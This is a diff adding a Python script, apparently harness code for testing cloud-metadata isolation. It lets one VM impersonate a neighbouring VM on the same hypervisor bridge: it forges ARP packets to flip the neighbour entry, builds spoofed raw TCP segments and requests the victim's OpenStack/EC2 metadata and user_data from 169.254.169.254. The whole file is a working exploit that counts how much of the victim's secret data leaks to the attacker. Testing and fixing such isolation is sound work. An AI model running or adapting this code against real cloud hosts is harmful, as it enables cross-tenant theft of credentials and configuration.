@@ -1,0 +1,324 @@
+"""
+A VM that pretends to be its neighbour: raw frames, forged ARP, and every timing.
+
+Runs inside the attacker's namespace and speaks JSON on stdin and stdout; standard
+library only.  It wants what another VM on its bridge would get, so it uses that VM's
+address, and turns the hypervisor's neighbour entry for it to its own MAC (to get the
+answers) and back to the victim's (to look like it), around the steps of a handshake
+that it does by hand.  C{learns} in the order are bytes that only the victim may see:
+whatever arrives on the wire is searched for them.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import random
+import select
+import socket
+import struct
+import sys
+import time
+from collections import Counter
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from typing import Any
+
+FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10
+_BROADCAST = b"\xff" * 6
+#: Nothing that the victim could ask for is left out: each holds its data.
+TARGETS = (
+    b"/openstack/latest/meta_data.json",
+    b"/openstack/latest/user_data",
+    b"/latest/meta-data/hostname",
+    b"/latest/user-data",
+)
+
+
+def octets(mac: str) -> bytes:
+    """
+    Write a MAC address as it stands on the wire.
+    """
+    return bytes.fromhex(mac.replace(":", ""))
+
+
+def checksum(data: bytes) -> int:
+    """
+    Compute the Internet checksum (RFC 1071).
+    """
+    if len(data) % 2:
+        data += b"\0"
+    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+@dataclass
+class Segment:
+    """
+    A TCP segment that the server sent to the victim's address.
+    """
+
+    port: int
+    seq: int
+    flags: int
+    payload: bytes
+
+
+@dataclass
+class Wire:
+    """
+    The attacker's end of its cable.
+
+    @ivar order: Who is who, as it came on stdin.
+    """
+
+    order: dict[str, Any]
+    cable: socket.socket = field(init=False)
+
+    def __post_init__(self) -> None:
+        """
+        Open the cable and learn the addresses.
+        """
+        every_protocol = socket.htons(0x0003)
+        self.cable = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, every_protocol)
+        self.cable.bind(("eth0", 0))
+        self.own, self.victim_mac, self.gateway_mac = (
+            octets(self.order[name]) for name in ("own_mac", "victim_mac", "router_mac")
+        )
+        self.victim, self.gateway, self.server = (
+            socket.inet_aton(self.order[name])
+            for name in ("victim", "gateway", "server")
+        )
+
+    def claim(self, mac: bytes, loudly: bool) -> None:
+        """
+        Tell the hypervisor that the victim's address is at a MAC.
+
+        @param loudly: By asking for the gateway, which makes an entry where there is
+            none; else by a gratuitous reply, which only the hypervisor gets.  Both
+            override the kernel's lock time (net/ipv4/arp.c, C{arp_process}).
+        """
+        operation, target_mac, target = 2, mac, self.victim
+        if loudly:
+            operation, target_mac, target = 1, bytes(6), self.gateway
+        head = (_BROADCAST if loudly else self.gateway_mac) + self.own
+        arp = struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, operation)
+        self.cable.send(head + arp + mac + self.victim + target_mac + target)
+
+    def send(
+        self, mac: bytes, port: int, seq: int, ack: int, flags: int, data: bytes = b""
+    ) -> None:
+        """
+        Send a TCP segment from the victim's address.
+
+        @param mac: The source of the frame.
+        """
+        to = self.order["port"]
+        tcp = struct.pack("!HHIIBBHHH", port, to, seq, ack, 0x50, flags, 65535, 0, 0)
+        pseudo = self.victim + self.server + struct.pack("!HH", 6, len(tcp + data))
+        total = struct.pack("!H", checksum(pseudo + tcp + data))
+        tcp = tcp[:16] + total + tcp[18:] + data
+        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0)
+        addresses = self.victim + self.server
+        ip = ip[:10] + struct.pack("!H", checksum(ip + addresses)) + addresses
+        self.cable.send(self.gateway_mac + mac + b"\x08\x00" + ip + tcp)
+
+    def listen(self, seconds: float) -> Iterator[Segment]:
+        """
+        Take what the server sends to the victim's address, for a time.
+        """
+        end = time.monotonic() + seconds
+        while True:
+            left = max(0.0, end - time.monotonic())
+            if not select.select([self.cable], [], [], left)[0]:
+                return
+            segment = self._read(self.cable.recv(65535))
+            if segment is not None:
+                yield segment
+
+    def _read(self, frame: bytes) -> Segment | None:
+        """
+        Read a frame, if it is one from the server to the victim's address.
+        """
+        if frame[12:14] != b"\x08\x00" or frame[26:34] != self.server + self.victim:
+            return None
+        length = struct.unpack("!H", frame[16:18])[0]
+        tcp = frame[34 : 14 + length]
+        source, port, seq, _, offset, flags = struct.unpack("!HHIIBB", tcp[:14])
+        if source != self.order["port"]:
+            return None
+        return Segment(port, seq, flags, tcp[(offset >> 4) * 4 :])
+
+
+@dataclass
+class Plan:
+    """
+    The timing of one attempt; all pauses in seconds.
+
+    @ivar forged: Whether the frames carry the victim's MAC or the attacker's own.
+    @ivar loudly: How the neighbour entry is turned.
+    @ivar settle: After the entry was turned to the attacker, before SYN.
+    @ivar disguise: After SYN-ACK, before the entry is turned to the victim; C{None}:
+        it stays at the attacker.
+    @ivar accept: Before the handshake's last ACK.
+    @ivar ask: Before the request.
+    @ivar unmask: After the request, before the entry is turned to the attacker again.
+    @ivar patience: For how long to listen then.
+    @ivar early: Turn the entry to the attacker again before the request, not after.
+    @ivar polite: Whether to reset the connection in the end.
+    """
+
+    forged: bool
+    loudly: bool
+    settle: float
+    disguise: float | None
+    accept: float
+    ask: float
+    unmask: float
+    patience: float
+    early: bool
+    polite: bool
+
+
+def pause(dice: random.Random) -> float:
+    """
+    Choose a pause: none, or anything from 20 µs to 20 ms, short ones as often as long.
+    """
+    if dice.random() < 0.25:
+        return 0.0
+    return float(2e-5 * 1000 ** dice.random())
+
+
+def plans(dice: random.Random, count: int) -> Iterator[Plan]:
+    """
+    Choose the timings of a number of attempts.
+    """
+    for _ in range(count):
+        forged = dice.random() < 0.8
+        yield Plan(
+            forged=forged,
+            loudly=dice.random() < 0.3,
+            settle=pause(dice),
+            disguise=pause(dice) if dice.random() < 0.9 else None,
+            accept=pause(dice),
+            ask=pause(dice),
+            unmask=pause(dice),
+            # The server's first retransmission comes after 200 ms.
+            patience=0.5 if dice.random() < 0.08 else 0.012,
+            early=dice.random() < 0.3,
+            polite=dice.random() < 0.8,
+        )
+
+
+@dataclass
+class Attack:
+    """
+    All attempts, and what came of them.
+
+    @ivar heard: All that the server sent, by the port it was sent to.
+    @ivar counts: How attempts went.
+    """
+
+    wire: Wire
+    dice: random.Random
+    heard: dict[int, bytearray] = field(default_factory=dict)
+    counts: Counter[str] = field(default_factory=Counter)
+
+    def listen(self, seconds: float) -> list[Segment]:
+        """
+        Wait, and keep all that comes.
+        """
+        segments = list(self.wire.listen(seconds))
+        for segment in segments:
+            self.heard.setdefault(segment.port, bytearray()).extend(segment.payload)
+            if segment.flags & RST:
+                self.counts["aborted"] += 1
+        return segments
+
+    def handshake(self, plan: Plan, mac: bytes, port: int, seq: int) -> int | None:
+        """
+        Send SYN and wait for the server's answer.
+
+        @return: The server's sequence number, if it came here.
+        """
+        self.wire.claim(self.wire.own, plan.loudly)
+        self.listen(plan.settle)
+        self.wire.send(mac, port, seq, 0, SYN)
+        for _ in range(5):
+            for segment in self.listen(0.005):
+                if segment.port == port and segment.flags & (SYN | ACK) == SYN | ACK:
+                    return segment.seq
+        return None
+
+    def attempt(self, plan: Plan, port: int) -> None:
+        """
+        Try once.
+        """
+        wire = self.wire
+        mac = wire.victim_mac if plan.forged else wire.own
+        seq = self.dice.randrange(1 << 31)
+        self.counts["attempts"] += 1
+        server = self.handshake(plan, mac, port, seq)
+        if server is None:
+            self.counts["no handshake"] += 1
+            return
+        if plan.disguise is not None:
+            self.listen(plan.disguise)
+            wire.claim(wire.victim_mac, plan.loudly)
+        self.listen(plan.accept)
+        wire.send(mac, port, seq + 1, server + 1, ACK)
+        self.listen(plan.ask)
+        if plan.early:
+            wire.claim(wire.own, plan.loudly)
+        question = b"GET %s HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n" % (
+            self.dice.choice(TARGETS)
+        )
+        wire.send(mac, port, seq + 1, server + 1, PSH | ACK, question)
+        self.listen(plan.unmask)
+        if not plan.early:
+            wire.claim(wire.own, plan.loudly)
+        self.listen(plan.patience)
+        if plan.polite:
+            end = seq + 1 + len(question)
+            wire.send(mac, port, end, 0, RST)
+
+    def run(self, count: int) -> None:
+        """
+        Try again and again, each time from another port.
+        """
+        first = 20000 + self.dice.randrange(1000)
+        for port, plan in enumerate(plans(self.dice, count), first):
+            self.attempt(plan, port)
+        self.listen(1.0)
+
+    def report(self) -> dict[str, Any]:
+        """
+        Say what was seen.
+
+        @return: C{counts}; C{statuses}, how often each response status came; C{leaks},
+            how many connections brought bytes that only the victim may see.
+        """
+        learns = [base64.b64decode(text) for text in self.wire.order["learns"]]
+        statuses: Counter[str] = Counter()
+        leaks = 0
+        for data in self.heard.values():
+            if data:
+                statuses[data[9:12].decode("latin-1")] += 1
+            leaks += any(secret in data for secret in learns)
+        return {"counts": self.counts, "statuses": statuses, "leaks": leaks}
+
+
+def main() -> None:
+    """
+    Attack as stdin says.
+    """
+    order = json.load(sys.stdin)
+    attack = Attack(Wire(order), random.Random(order["seed"]))
+    attack.run(order["attempts"])
+    print(json.dumps(attack.report()))
+
+
+if __name__ == "__main__":
+    main()
